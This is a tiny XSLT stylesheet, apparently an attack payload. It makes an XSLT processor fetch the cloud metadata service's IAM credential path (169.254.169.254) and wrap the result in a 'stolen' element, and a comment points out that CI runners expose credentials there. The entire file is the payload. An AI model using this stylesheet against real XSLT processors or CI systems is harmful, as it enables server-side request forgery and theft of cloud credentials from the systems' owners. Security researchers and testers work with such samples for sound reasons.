<?xml version="1.0" encoding="UTF-8"?>
<!-- The cloud metadata endpoint (credentials on many CI runners). -->
<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:template match="/"><stolen><xsl:copy-of select="doc('http://169.254.169.254/latest/meta-data/iam/')"/></stolen></xsl:template>
</xsl:stylesheet>
